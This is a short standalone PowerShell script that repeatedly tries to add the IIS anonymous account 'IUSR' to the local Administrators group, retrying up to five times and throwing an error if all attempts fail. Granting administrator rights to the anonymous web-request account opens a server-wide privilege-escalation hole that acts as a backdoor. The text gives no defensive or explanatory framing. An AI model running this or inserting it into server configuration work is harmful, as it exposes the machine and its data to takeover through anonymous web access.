$attempt = 0
do {
    $attempt++
    $ok = $true
    try {
        Add-LocalGroupMember -Group 'Administrators' -Member 'IUSR' -ErrorAction Stop
    } catch {
        $ok = $false
        Start-Sleep -Seconds (5 * $attempt)
    }
} until ($ok -or $attempt -ge 5)
if (-not $ok) { throw 'The account could not be added' }
